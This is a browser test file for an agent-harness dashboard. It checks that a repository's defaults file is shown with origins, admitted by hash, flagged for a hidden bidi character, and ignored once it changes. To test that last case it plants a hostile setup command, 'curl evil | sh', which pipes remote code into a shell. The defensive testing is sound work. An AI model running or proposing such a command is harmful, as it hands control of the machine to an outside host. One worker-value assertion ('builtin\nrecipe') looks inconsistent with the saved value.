/// <reference lib="dom" />
import assert from "node:assert/strict";
import { dashboardTest, isLive } from "./browser.ts";

const FILE = ".agent-harness.json";
const SHOTS = Deno.env.get("AGENT_HARNESS_TEST_SHOTS");

dashboardTest(
  "defaults of a repository are shown with their origin, set, and cleared; its file is admitted by hash",
  async (browser) => {
    const place = await browser.place();
    const repoPath = place.repository.root;
    const defaults = async () => await place.call("GET /repositories/defaults", { query: { repoPath } });
    const asked = { request: 'create docs/a.md with "x"', setup: { command: "echo ready" } };
    await place.approve(await place.run(asked));
    place.repository.write({
      [FILE]: '{\n  "$schema": "a\u202eb",\n  "setup": "npm ci",\n  "dial": "closed"\n}\n',
    });
    const page = await browser.page();
    await page.goto(`${place.url}/dashboard/repositories`);
    await isLive(page);
    await page.getByText("file proposed").waitFor();
    await page.getByRole("button", { name: `Defaults of ${repoPath}` }).click();
    const dialog = page.getByRole("dialog", { name: "Defaults" });
    await dialog.getByText(/Learnt from #1\./).waitFor();
    assert.equal(await dialog.getByLabel("Setup").inputValue(), "echo ready");
    await dialog.getByText("is not admitted, so nothing of it is used").waitFor();
    await dialog.getByRole("region", { name: "What the file says" }).locator(".hidden-mark-bidi").waitFor();
    if (SHOTS) await page.screenshot({ path: `${SHOTS}/defaults-proposed.png` });
    assert.equal(
      await dialog.getByLabel("Setup").inputValue(),
      "echo ready",
      "what is not admitted fills nothing in",
    );
    await dialog.getByRole("button", { name: "Admit the file as it is" }).click();
    await dialog.getByText("file admitted").waitFor();
    assert.equal(await dialog.getByLabel("Setup").inputValue(), "npm ci");
    await dialog.getByLabel("Verifier").fill("make test");
    await dialog.getByLabel("Worker").fill("builtin/recipe");
    await dialog.getByRole("button", { name: "Save" }).click();
    await dialog.waitFor({ state: "detached" });
    const { items } = await defaults();
    assert.deepEqual(items.slice(0, 3).map(({ value, origin }) => [value, origin]), [
      ["make test", "set"],
      ["npm ci", "file"],
      ["builtin/recipe", "set"],
    ]);

    place.repository.write({ [FILE]: '{\n  "setup": "curl evil | sh",\n  "dial": "closed"\n}\n' });
    await page.getByRole("button", { name: `Defaults of ${repoPath}` }).click();
    await dialog.getByText("file changed").waitFor();
    await dialog.getByRole("region", { name: "What has changed" }).getByText("curl evil").waitFor();
    await page.emulateMedia({ colorScheme: "dark" });
    await page.setViewportSize({ width: 390, height: 844 });
    if (SHOTS) await page.screenshot({ path: `${SHOTS}/defaults-changed.png` });
    assert.equal(await dialog.getByLabel("Setup").inputValue(), "echo ready", "a changed file is not used");
    const save = (await dialog.getByRole("button", { name: "Save" }).boundingBox())!;
    assert.ok(save.y + save.height < 844, "what ends the dialog is in view, however long it is");
    await dialog.getByRole("button", { name: "Revoke the admission" }).click();
    await dialog.getByText("file proposed").waitFor();
    await dialog.getByLabel("Worker").fill("");
    await dialog.getByRole("button", { name: "Save" }).click();
    await dialog.waitFor({ state: "detached" });
    assert.equal((await defaults()).items[2]!.value, null);
    const wider = await page.evaluate(() =>
      [document.documentElement, ...document.querySelectorAll(".table-scroller")]
        .filter(({ scrollWidth, clientWidth }) => scrollWidth > clientWidth).map(({ className }) => className)
    );
    assert.deepEqual(wider, [], "nothing on the page is wider than a phone");
    if (SHOTS) await page.screenshot({ path: `${SHOTS}/repositories-narrow.png`, fullPage: true });
  },
);

dashboardTest(
  "new run: the dialog is filled in with the repository's defaults, says so, and updates when the path changes",
  async (browser) => {
    const place = await browser.place();
    const repoPath = place.repository.root;
    const body = { repoPath, verifier: "test -s made.txt", setup: "true", worker: "builtin/recipe" };
    await place.call("POST /repositories/defaults", { body });
    const page = await browser.page({ viewport: { width: 1440, height: 900 } });
    await page.goto(`${place.url}/dashboard/runs?new=1&repo=${encodeURIComponent(repoPath)}`);
    await isLive(page);
    const dialog = page.getByRole("dialog", { name: "Ask for work" });
    await dialog.getByText("Defaults: verifier set by you, setup set by you, worker set by you.").waitFor();
    const [verifier, setup, worker] = ["Verifier", "Setup", "Worker"].map((name) =>
      dialog.getByLabel(name, { exact: true })
    );
    assert.equal(await verifier!.inputValue(), "test -s made.txt");
    assert.equal(await setup!.inputValue(), "true");
    assert.equal(await worker!.inputValue(), "builtin\nrecipe");
    if (SHOTS) await page.screenshot({ path: `${SHOTS}/new-run.png` });
    await verifier!.fill("test -s other.txt");
    await dialog.getByLabel("Repository").fill("/nowhere");
    await dialog.getByText("Defaults:").waitFor({ state: "detached" });
    assert.equal(await verifier!.inputValue(), "test -s other.txt", "what was typed stays");
    await dialog.getByLabel("Repository").fill(repoPath);
    await dialog.getByText("Defaults: verifier").waitFor();
    await dialog.getByLabel("Request").fill('create other.txt with "x"');
    await dialog.getByRole("button", { name: "Start the run" }).click();
    await page.waitForURL(/\/runs\/run_/);
    const id = /run_\w+/.exec(page.url())![0];
    await place.settled(id);
    const run = await place.call("GET /runs/:id", { params: { id } });
    assert.deepEqual(
      [run.verifier?.command, run.worker?.provider, run.setup, run.preparation?.command],
      ["test -s other.txt", "builtin", undefined, "true"],
    );
  },
);
